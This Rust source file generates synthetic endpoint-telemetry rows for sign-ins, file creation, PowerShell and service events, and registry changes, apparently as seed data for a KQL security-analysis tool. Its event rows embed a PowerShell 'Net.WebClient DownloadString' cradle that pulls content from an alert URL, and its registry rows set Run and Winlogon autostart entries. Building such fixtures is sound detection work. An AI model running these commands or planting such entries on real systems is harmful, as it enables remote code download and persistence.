//! Tables of events on devices: sign-ins, files, services and scripts, the registry.

use jiff::SignedDuration;
use serde_json::json;

use super::{Columns, before, of_alerts, text};
use crate::seed::{AlertFact, Estate};
use kql::Cell;

/// `DeviceLogonEvents`.
const LOGONS: Columns = &[
    "Timestamp",
    "DeviceId",
    "DeviceName",
    "ActionType",
    "LogonType",
    "AccountDomain",
    "AccountName",
    "AccountSid",
    "IsLocalAdmin",
    "FailureReason",
    "RemoteDeviceName",
    "RemoteIP",
    "ReportId",
];

/// `DeviceFileEvents`.
const FILES: Columns = &[
    "Timestamp",
    "DeviceId",
    "DeviceName",
    "ActionType",
    "FileName",
    "FolderPath",
    "SHA1",
    "SHA256",
    "MD5",
    "FileSize",
    "InitiatingProcessFileName",
    "InitiatingProcessAccountName",
    "ReportId",
];

/// `DeviceEvents`: the action decides what `AdditionalFields` holds.
const EVENTS: Columns = &[
    "Timestamp",
    "DeviceId",
    "DeviceName",
    "ActionType",
    "FileName",
    "FolderPath",
    "ProcessCommandLine",
    "InitiatingProcessFileName",
    "InitiatingProcessCommandLine",
    "InitiatingProcessAccountName",
    "AdditionalFields",
    "ReportId",
];

/// `DeviceRegistryEvents`.
const REGISTRY: Columns = &[
    "Timestamp",
    "DeviceId",
    "DeviceName",
    "ActionType",
    "RegistryKey",
    "RegistryValueName",
    "RegistryValueData",
    "InitiatingProcessFileName",
    "InitiatingProcessAccountName",
    "ReportId",
];

/// The rows of a table by its name.
pub(super) fn table(estate: &Estate, name: &str) -> Option<(Columns, Vec<Vec<Cell>>)> {
    Some(match name {
        "DeviceLogonEvents" => (LOGONS, of_alerts(estate, logon)),
        "DeviceFileEvents" => (FILES, of_alerts(estate, file)),
        "DeviceEvents" => (EVENTS, of_alerts(estate, event)),
        "DeviceRegistryEvents" => (REGISTRY, of_alerts(estate, registry)),
        _ => return None,
    })
}

/// The first columns of an event. `seconds` is the time before the first event of the
/// alert.
fn at(estate: &Estate, alert: &AlertFact, seconds: i64, action: &str) -> Vec<Cell> {
    let device = estate.device_of(alert);
    vec![
        before(alert, SignedDuration::from_secs(seconds)),
        text(&device.id),
        text(&device.dns_name),
        text(action),
    ]
}

/// A sign-in before the alert. Every fourth one failed.
fn logon(estate: &Estate, alert: &AlertFact) -> Vec<Cell> {
    let person = estate.person_of(alert);
    let failed = alert.process_id % 4 == 0;
    let mut row = at(
        estate,
        alert,
        300,
        if failed {
            "LogonFailed"
        } else {
            "LogonSuccess"
        },
    );
    row.extend([
        text(if failed { "Network" } else { "Interactive" }),
        text(person.domain),
        text(&person.account),
        text(&person.sid),
        Cell::Bool(person.is_admin),
        text(if failed {
            "InvalidUserNameOrPassword"
        } else {
            ""
        }),
        text(""),
        text(if failed { &*alert.ip } else { "" }),
        Cell::Long(alert.process_id + 1),
    ]);
    row
}

/// The file of the alert was created before it ran.
fn file(estate: &Estate, alert: &AlertFact) -> Vec<Cell> {
    let (file, person) = (estate.file_of(alert), estate.person_of(alert));
    let mut row = at(estate, alert, 60, "FileCreated");
    row.extend([
        text(&file.name),
        text(file.folder),
        text(&file.sha1),
        text(&file.sha256),
        text(&file.md5),
        Cell::Long(file.size.into()),
        text("explorer.exe"),
        text(&person.account),
        Cell::Long(alert.process_id + 2),
    ]);
    row
}

/// An installed service or a PowerShell command, in turns.
fn event(estate: &Estate, alert: &AlertFact) -> Vec<Cell> {
    let (file, person) = (estate.file_of(alert), estate.person_of(alert));
    let path = format!("{}\\{}", file.folder, file.name);
    let (action, more) = if alert.process_id % 2 == 0 {
        (
            "ServiceInstalled",
            json!({"ServiceName": file.name, "ServiceAccount": "LocalSystem", "ServiceStartType": 2}),
        )
    } else {
        let command = format!("(New-Object Net.WebClient).DownloadString('{}')", alert.url);
        ("PowerShellCommand", json!({"Command": command}))
    };
    let mut row = at(estate, alert, 30, action);
    row.extend([
        text(&file.name),
        text(file.folder),
        text(&path),
        text("powershell.exe"),
        text("powershell.exe -NoProfile"),
        text(&person.account),
        Cell::Dynamic(more),
        Cell::Long(alert.process_id + 3),
    ]);
    row
}

/// An autostart entry or another setting, in turns.
fn registry(estate: &Estate, alert: &AlertFact) -> Vec<Cell> {
    let (file, person) = (estate.file_of(alert), estate.person_of(alert));
    let key = match alert.process_id % 3 {
        0 => r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
        1 => r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon",
        _ => r"HKEY_CURRENT_USER\SOFTWARE\Contoso\Settings",
    };
    let mut row = at(estate, alert, 10, "RegistryValueSet");
    row.extend([
        text(key),
        text(&file.name),
        text(format!("{}\\{}", file.folder, file.name)),
        text("reg.exe"),
        text(&person.account),
        Cell::Long(alert.process_id + 4),
    ]);
    row
}
